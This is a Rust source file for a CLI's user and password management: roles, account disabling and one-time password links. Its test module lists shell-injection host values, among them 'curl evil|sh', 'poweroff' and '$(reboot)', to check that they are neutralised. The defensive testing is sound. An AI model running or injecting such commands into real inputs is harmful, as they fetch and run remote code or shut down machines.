//! `rackhand users …` and `rackhand password`: people, their roles, and how they sign in.

use clap::{Args, Subcommand, ValueEnum};
use rackhand_schema::{
    Role,
    id::UserId,
    identity::{Grant, NewGrant, NewUser, PasswordChange, PasswordChoice, PasswordLink, User, UserChange},
    site::Site,
};
use serde::Serialize;

use crate::{
    auth::{grant_text, sites_of},
    client::{Client, is_loopback, origin, parse_server},
    error::{Failure, Result, help},
    output::{Column, Output, moment, say, word},
    resolve,
    secret::{self, PasswordSource, confirm},
};

#[derive(Debug, Subcommand)]
pub enum Verb {
    /// Everyone who has an account.
    #[command(after_help = help!("users list"))]
    List,
    /// Make an account, without a role yet, and print a one-time link with which the person chooses a password.
    #[command(after_help = help!("users add ben@rackhand.example --name Ben"))]
    Add {
        /// E-mail address.
        email: String,
        /// As others see them.
        #[arg(long)]
        name: String,
    },
    /// Give a role for a site, or for the whole fleet.
    #[command(after_help = help!("users grant ben@rackhand.example --role operator --site closet"))]
    Grant(Whom),
    /// Take a role away.
    #[command(after_help = help!("users revoke ben@rackhand.example --role operator --site closet"))]
    Revoke(Whom),
    /// Disable a sign-in; the person's sessions end at once.
    #[command(after_help = help!("users disable ben@rackhand.example", "users disable ben@rackhand.example --yes"))]
    Disable {
        /// E-mail address of the account.
        email: String,
        /// Do not ask.
        #[arg(long)]
        yes: bool,
    },
    /// Enable a sign-in again.
    #[command(after_help = help!("users enable ben@rackhand.example"))]
    Enable {
        /// E-mail address of the account.
        email: String,
    },
    /// End all sessions of a person; of your own, all but this one.
    #[command(after_help = help!("users sign-out ben@rackhand.example"))]
    SignOut {
        /// E-mail address of the account.
        email: String,
    },
    /// Print a one-time link with which a person chooses a new password. Also lets a person in again whose account
    /// strangers keep busy with attempts.
    #[command(after_help = help!("users reset-password ben@rackhand.example"))]
    ResetPassword {
        /// E-mail address of the account.
        email: String,
    },
}

#[derive(Debug, Args)]
#[command(group = clap::ArgGroup::new("scope").required(true).args(["site", "fleet"]))]
pub struct Whom {
    /// E-mail address of the account.
    email: String,
    /// What the person may do there: a viewer reads everything, an operator also plans, approves and runs jobs, adds
    /// servers and sets credentials, an admin also changes settings, executors and roles.
    #[arg(long)]
    role: RoleName,
    /// One site, by name or id.
    #[arg(long)]
    site: Option<String>,
    /// The whole fleet instead of one site.
    #[arg(long)]
    fleet: bool,
}

#[derive(Debug, Clone, Copy, ValueEnum)]
enum RoleName {
    Viewer,
    Operator,
    Admin,
}

impl From<RoleName> for Role {
    fn from(name: RoleName) -> Self {
        match name {
            RoleName::Viewer => Self::Viewer,
            RoleName::Operator => Self::Operator,
            RoleName::Admin => Self::Admin,
        }
    }
}

#[derive(Debug, Args)]
pub struct Password {
    /// Choose one with the token of a link (what stands after the `#`); you are prompted for it.
    #[arg(long)]
    with_link: bool,
}

/// A user, and the roles in words.
#[derive(Serialize)]
struct Listed {
    #[serde(flatten)]
    user: User,
    #[serde(skip)]
    roles: String,
}

impl Listed {
    fn new(user: User, sites: &[Site]) -> Self {
        let roles: Vec<_> = user.grants.iter().map(|grant| grant_text(grant, sites)).collect();
        Self { roles: roles.join(", "), user }
    }
}

const COLUMNS: [Column<Listed>; 5] = [
    Column::new("E-MAIL", |row: &Listed| row.user.email.clone()),
    Column::new("NAME", |row| row.user.name.clone()),
    Column::new("STATE", |row| if row.user.disabled { "disabled" } else { "enabled" }.to_owned()),
    Column::new("ROLES", |row| row.roles.clone()),
    Column::wide("CREATED", |row| moment(&row.user.created_at)),
];

pub async fn run(verb: Verb, client: &Client, out: Output) -> Result<()> {
    match verb {
        Verb::List => {
            let users = list(client).await?;
            let sites = sites_of(client, users.iter().flat_map(|user| &user.grants)).await;
            let rows: Vec<_> = users.into_iter().map(|user| Listed::new(user, &sites)).collect();
            out.list(&rows, &COLUMNS, |row| row.user.email.clone())
        }
        Verb::Add { email, name } => {
            let new = NewUser { email, name, password: None };
            let user: User = client.post(&["v1", "users"]).body(&new)?.send().await?;
            say(format!("made an account for {}; give it a role with `rackhand users grant`", user.email));
            link(client, user.id, out).await
        }
        Verb::Grant(whom) => {
            let (user, site) = (find(client, &whom.email).await?, whom.site(client).await?);
            let grant = NewGrant { role: whom.role.into(), site_id: site };
            let call = client.post(&["v1", "users", &user.id.to_string(), "grants"]).body(&grant)?;
            let _: Grant = call.send().await?;
            say(format!("{} is {} now", user.email, whom.words()));
            Ok(())
        }
        Verb::Revoke(whom) => {
            let (user, site) = (find(client, &whom.email).await?, whom.site(client).await?);
            let role = Role::from(whom.role);
            let held = user.grants.iter().find(|grant| grant.role == role && grant.site_id == site);
            let held =
                held.ok_or_else(|| Failure::Usage(format!("{} is not {}", user.email, whom.words())))?;
            let (user_id, grant) = (user.id.to_string(), held.id.to_string());
            client.delete(&["v1", "users", &user_id, "grants", &grant]).done().await?;
            say(format!("{} is not {} any more", user.email, whom.words()));
            Ok(())
        }
        Verb::Disable { email, yes } => {
            let user = find(client, &email).await?;
            confirm(
                yes,
                &format!(
                    "{} is signed out everywhere at once and cannot sign in until `rackhand users enable`. The \
                     account and its roles stay, and so do the jobs that this person made.",
                    user.email
                ),
            )?;
            change(client, &user, true).await
        }
        Verb::Enable { email } => change(client, &find(client, &email).await?, false).await,
        Verb::SignOut { email } => {
            let user = find(client, &email).await?;
            client.delete(&["v1", "users", &user.id.to_string(), "sessions"]).done().await?;
            say(match client.is_me(&user.email) {
                true => "your other sessions have ended; this one continues".to_owned(),
                false => format!("sessions of {email} have ended"),
            });
            Ok(())
        }
        Verb::ResetPassword { email } => {
            let user = find(client, &email).await?;
            link(client, user.id, out).await
        }
    }
}

impl Whom {
    async fn site(&self, client: &Client) -> Result<Option<rackhand_schema::id::SiteId>> {
        match &self.site {
            Some(name) => Ok(Some(resolve::site(client, Some(name)).await?.id)),
            None => Ok(None),
        }
    }

    fn words(&self) -> String {
        let role = word(&Role::from(self.role));
        match &self.site {
            Some(site) => format!("{role} of site {site}"),
            None => format!("{role} of the whole fleet"),
        }
    }
}

async fn list(client: &Client) -> Result<Vec<User>> {
    client.all(&["v1", "users"], &[], None).await
}

async fn find(client: &Client, email: &str) -> Result<User> {
    let found = list(client).await?.into_iter().find(|user| user.email.eq_ignore_ascii_case(email));
    found.ok_or_else(|| Failure::NotFound { what: "user", name: email.to_owned() })
}

async fn change(client: &Client, user: &User, disabled: bool) -> Result<()> {
    let change = UserChange { name: None, disabled: Some(disabled) };
    let user: User = client.patch(&["v1", "users", &user.id.to_string()]).body(&change)?.send().await?;
    say(format!("{} is {} now", user.email, if user.disabled { "disabled" } else { "enabled" }));
    Ok(())
}

async fn link(client: &Client, user: UserId, out: Output) -> Result<()> {
    let made: PasswordLink = client.post(&["v1", "users", &user.to_string(), "password-link"]).send().await?;
    let server = client.server();
    let shown = made.link.clone().unwrap_or_else(|| format!("{server}/choose-password#{}", made.token));
    say(hand_over(&shown, &server, made.expires_in));
    out.one(&made, &made.token, || format!("{shown}\n"))
}

/// How `link` is handed over. Elsewhere, an address that means this machine would be that of another one.
/// `server`: the control plane's address here, for a link that is not one.
fn hand_over(link: &str, server: &str, expires_in: u32) -> String {
    let before = link.split_once("/choose-password#").map_or(server, |(before, _)| before);
    let url = parse_server(before).or_else(|_| parse_server(server));
    let (origin, here) =
        url.map_or_else(|_| (server.to_owned(), false), |url| (origin(&url), is_loopback(&url)));
    let hours = expires_in / 3600;
    let terminal =
        if here { "At a terminal of this machine, whose own address it is" } else { "At a terminal" };
    format!(
        "valid once, for {hours} hours; hand it over where only that person reads it. {terminal}: `rackhand password \
         --with-link --api {origin}`"
    )
}

/// You are prompted for passwords one after the other; without a terminal they are lines of stdin in the same order.
pub async fn password(args: Password, client: Result<Client>) -> Result<()> {
    let client = match client {
        Err(Failure::NotSignedIn(None)) if args.with_link => {
            let text = "which control plane? `rackhand password --with-link --api https://…`";
            return Err(Failure::Usage(text.to_owned()));
        }
        client => client?,
    };
    let ask = |prompt: &str| PasswordSource::line().read(prompt).map(|text| text.to_string());
    if args.with_link {
        let choice = PasswordChoice { token: ask("Token of the link")?, password: chosen(&ask)? };
        client.post(&["v1", "auth", "password-choice"]).body(&choice)?.anonymous_done().await?;
        say(format!("the password is chosen; sign in with `rackhand login {}`", client.server()));
        return Ok(());
    }
    let change = PasswordChange { present: ask("Present password")?, new: chosen(&ask)? };
    client.post(&["v1", "auth", "password"]).body(&change)?.done().await?;
    say("the password is changed; your other sessions have ended");
    Ok(())
}

fn chosen(ask: &impl Fn(&str) -> Result<String>) -> Result<String> {
    let new = ask("New password")?;
    if secret::on_a_terminal() && ask("The same once more")? != new {
        return Err(Failure::Usage("the two are not the same; nothing was changed".to_owned()));
    }
    Ok(new)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::output::Format;

    #[test]
    fn roles_name_sites_and_json_is_the_apis() {
        let site = "01920000-0000-7000-8000-000000000004";
        let user = json!({
            "id": "01920000-0000-7000-8000-000000000001", "email": "ben@rackhand.example", "name": "Ben",
            "disabled": false, "created_at": "2026-01-01T00:00:00Z",
            "grants": [{"id": "01920000-0000-7000-8000-000000000003", "role": "operator", "site_id": site}],
        });
        let closet: Site = serde_json::from_value(json!({
            "id": site, "name": "closet", "config": {}, "public_key": null,
            "servers": 0, "executors_online": 0, "created_at": "2026-01-01T00:00:00Z", "version": 1,
        }))
        .unwrap();
        let row = Listed::new(serde_json::from_value(user.clone()).unwrap(), &[closet]);
        let text = Output::plain(Format::Table).render_list(&[row], &COLUMNS, |row| row.user.email.clone());
        insta::assert_snapshot!(text.unwrap(), @r"
        E-MAIL                NAME  STATE    ROLES
        ben@rackhand.example  Ben   enabled  operator of site closet
        ");
        let row = Listed::new(serde_json::from_value(user.clone()).unwrap(), &[]);
        assert!(row.roles.contains(site), "without the name the id says it");
        assert_eq!(serde_json::to_value(row).unwrap(), user);
    }

    #[test]
    fn a_link_is_handed_over_with_its_own_address() {
        let said = hand_over("https://rackhand.example/choose-password#t0ken", "http://127.0.0.1:8420", 7200);
        assert!(
            said.ends_with("At a terminal: `rackhand password --with-link --api https://rackhand.example`"),
            "{said}"
        );
        for host in [
            "x; curl evil|sh #",
            "x;poweroff;",
            "x;{wget,evil.example}",
            "$(reboot)",
            "`reboot`",
            "x&reboot&",
            "x'",
        ] {
            let link = format!("https://{host}/choose-password#t0ken");
            let said = hand_over(&link, "http://127.0.0.1:8420", 7200);
            assert!(
                said.contains("of this machine") && said.contains("--api http://127.0.0.1:8420`"),
                "{said}"
            );
        }
    }
}
